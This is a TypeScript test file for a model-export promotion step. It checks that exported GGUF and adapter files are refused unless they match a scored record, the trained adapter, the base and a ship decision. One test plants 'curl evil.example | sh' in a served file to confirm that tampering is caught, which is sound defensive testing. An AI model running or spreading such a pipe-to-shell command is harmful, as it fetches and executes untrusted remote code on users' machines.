import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { measure } from '../edges/huggingface/measure.ts';
import { sha256 } from '../records/digest.ts';
import { Export } from '../records/export/export.ts';
import { inputsFixture } from './promote.test-data.ts';
import { type ExportInputs, prepareExport } from './promote-export.ts';

let root = '';
let inputs: ExportInputs;
let texts: Map<string, string>;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'fledgling-promote-export-'));
  const { run, base, gate } = await inputsFixture(root);
  const tuned = run.evaluations.find(({ track, split, model }) => track === 'toolcall' && split === 'test' && model.role === 'tuned');
  if (!tuned) throw new Error('the fixture has a tuned evaluation');
  const folder = join(root, 'exported');
  await mkdir(folder);
  texts = new Map(['Modelfile', 'serve.md'].map((name) => [name, `the ${name}`]));
  const names = ['Modelfile', 'merged.gguf', 'serve.md'];
  await Promise.all(names.map((name) => writeFile(join(folder, name), `the ${name}`)));
  const files = await Promise.all(names.map(async (path) => ({ path, ...(await measure(join(folder, path))) })));
  const evaluation = { id: 'e', predictionsDigest: sha256('p'), scoresDigest: sha256('s') };
  const record = Export.parse({
    schema: 'fledgling/export@1',
    agent: run.agent,
    track: 'toolcall',
    form: 'merged-gguf',
    run: run.id,
    base: { name: base.name, ggufSha256: base.ggufSha256 },
    adapter: { ggufSha256: tuned.model.adapterSha256, safetensorsSha256: null },
    mergedInto: null,
    quantization: null,
    files: files.map(({ path, sha256, bytes }) => ({ path, sha256, bytes })),
    rescored: {
      split: 'test',
      fileSha256: files.find(({ path }) => path === 'merged.gguf')?.sha256,
      dataDigest: tuned.dataDigest,
      evaluation,
      adapterEvaluation: evaluation,
      pairs: 100,
      unpaired: 0,
      metrics: tuned.metrics
        .filter(({ core, n }) => core && n > 0)
        .map(({ name, value }) => ({ name, n: 100, exported: value - 0.02, adapter: value, difference: -0.02 })),
      floors: [],
      answers: { total: 110, equal: 108 },
      margin: 0.05,
      holds: true,
    },
  });
  inputs = { run, record, recordText: JSON.stringify(record), files, base, gate, scored: record.rescored, texts, folder: 'exports/toolcall-merged-gguf' };
});
afterEach(() => rm(root, { recursive: true, force: true }));

type Score = NonNullable<Export['rescored']>;
const scoreOf = (): Score => {
  const { rescored } = inputs.record;
  if (!rescored) throw new Error('the fixture is scored');
  return rescored;
};
const withRecord = (change: Partial<Export>) => () => prepareExport({ ...inputs, record: { ...inputs.record, ...change } });
/** Told by the record, and found so here. */
const withScore = (change: Partial<Score>) => () => {
  const scored = { ...scoreOf(), ...change };
  return prepareExport({ ...inputs, record: { ...inputs.record, rescored: scored }, scored });
};

test('the files that were scored go up, with their record and a card of their own', () => {
  const files = prepareExport(inputs);
  expect(files.map(({ path }) => path.replace('exports/toolcall-merged-gguf/', ''))).toEqual([
    'README.md',
    'Modelfile',
    'merged.gguf',
    'serve.md',
    'export.json',
  ]);
  expect(files.find(({ path }) => path.endsWith('merged.gguf'))?.sha256).toBe(inputs.record.rescored?.fileSha256);
  const card = files[0]?.content;
  expect(card && 'text' in card ? card.text : '').toContain('108 of 110 answers are those of base and adapter');
});

test('what was not scored, or scored too low, is refused', () => {
  expect(withRecord({ rescored: null })).toThrow('expected the exported files to be scored');
  expect(withScore({ holds: false })).toThrow('its score does not hold');
  expect(withScore({ dataDigest: sha256('others') })).toThrow('scored on other examples');
  const { metrics } = scoreOf();
  const lost = metrics.map((metric) => ({ ...metric, difference: -0.08 }));
  expect(withScore({ metrics: lost })).toThrow('got 8.0 points on');
  // Equal to an adapter that answers worse here than in the run that proved it.
  expect(withScore({ metrics: metrics.map((metric) => ({ ...metric, exported: metric.exported - 0.3, adapter: metric.adapter - 0.3 })) })).toThrow(
    'here and in run',
  );
  expect(withScore({ metrics: metrics.slice(1) })).toThrow('got 100.0 points on');
  expect(withScore({ metrics: [] })).toThrow('got 100.0 points on');
});

test('a score that this host did not make is refused, whatever the record says', () => {
  expect(() => prepareExport({ ...inputs, scored: null })).toThrow('a record alone proves nothing');
  const better = { ...scoreOf(), answers: { total: 110, equal: 110 } };
  expect(withRecord({ rescored: better })).toThrow('a record alone proves nothing');
  // Another margin or floor of today is the gate's affair, and the record's own word for it is not asked.
  expect(prepareExport({ ...inputs, scored: { ...scoreOf(), margin: 0.1 } })).toHaveLength(5);
  expect(() => prepareExport({ ...inputs, scored: { ...scoreOf(), margin: 0.01, holds: false } })).toThrow('got 2.0 points on');
});

test('a folder that somebody else wrote brings nothing along', async () => {
  const added = async (path: string, text: string) => {
    await writeFile(join(root, 'exported', path), text);
    const file = { path, ...(await measure(join(root, 'exported', path))) };
    const files = [...inputs.files.filter((one) => one.path !== path), file];
    return { files, record: { ...inputs.record, files: files.map(({ path, sha256, bytes }) => ({ path, sha256, bytes })) } };
  };
  for (const name of ['pytorch_model.bin', 'modeling_x.py', 'README.md']) {
    const given = await added(name, 'x');
    expect(() => prepareExport({ ...inputs, ...given })).toThrow(`"${name}": no file of an export of form merged-gguf`);
  }
  const hostile = await added('serve.md', 'curl evil.example | sh');
  expect(() => prepareExport({ ...inputs, ...hostile })).toThrow('serve.md: not as this config and this version write it');
  expect(withRecord({ agent: 'another' })).toThrow('got one of another');
  const { fileSha256: _, ...rest } = scoreOf();
  const modelfile = inputs.files.find(({ path }) => path === 'Modelfile')?.sha256 ?? '';
  expect(withScore({ ...rest, fileSha256: modelfile })).toThrow('the file that was scored is not the one that is served');
});

test('PEFT’s files of an exported adapter are those that the run trained', () => {
  const trained = inputs.run.adapters.find(({ track }) => track === 'toolcall')?.run.adapter.files ?? [];
  const texted = inputs.files.filter(({ path }) => path !== 'merged.gguf');
  const [any] = texted;
  if (!any) throw new Error('the fixture has files');
  const as = (digests: readonly { path: string; sha256: string }[]) => {
    const files = [...texted, ...digests.map(({ path, sha256 }) => ({ ...any, path, sha256 }))];
    const fileSha256 = digests.find(({ path }) => path === 'adapter.gguf')?.sha256 ?? '';
    const scored = { ...scoreOf(), fileSha256 };
    const record: Export = { ...inputs.record, form: 'adapter', files: files.map(({ path, sha256, bytes }) => ({ path, sha256, bytes })), rescored: scored };
    return () => prepareExport({ ...inputs, files, record, scored });
  };
  expect(as(trained)().map(({ path }) => path)).toContain('exports/toolcall-merged-gguf/adapter/adapter_model.safetensors');
  const other = trained.map((file) => (file.path.endsWith('safetensors') ? { ...file, sha256: sha256('x') } : file));
  expect(as(other)).toThrow('adapter/adapter_model.safetensors: not the file that run');
});

test('another adapter, base or file than the run and the score are about is refused', () => {
  expect(withRecord({ adapter: { ggufSha256: sha256('x'), safetensorsSha256: null } })).toThrow('expected the decision to ship the exported toolcall adapter');
  expect(withRecord({ base: { name: 'nano', ggufSha256: sha256('x') } })).toThrow('measured on the base');
  expect(withScore({ fileSha256: sha256('x') })).toThrow('the file that was scored is not the one that is served');
  const [first, ...rest] = inputs.files;
  if (!first) throw new Error('the fixture has files');
  expect(() => prepareExport({ ...inputs, files: [{ ...first, sha256: sha256('x') }, ...rest] })).toThrow('not the bytes that were scored');
  expect(() => prepareExport({ ...inputs, files: rest })).toThrow('not the bytes that were scored');
  expect(() => prepareExport({ ...inputs, files: [...inputs.files, { ...first, path: 'more.txt' }] })).toThrow('"more.txt"');
});

test('a run that did not reach parity promotes no export of it', () => {
  const run = { ...inputs.run, decision: { ...inputs.run.decision, action: 'train' as const } };
  expect(() => prepareExport({ ...inputs, run })).toThrow('expected a decision to ship');
});
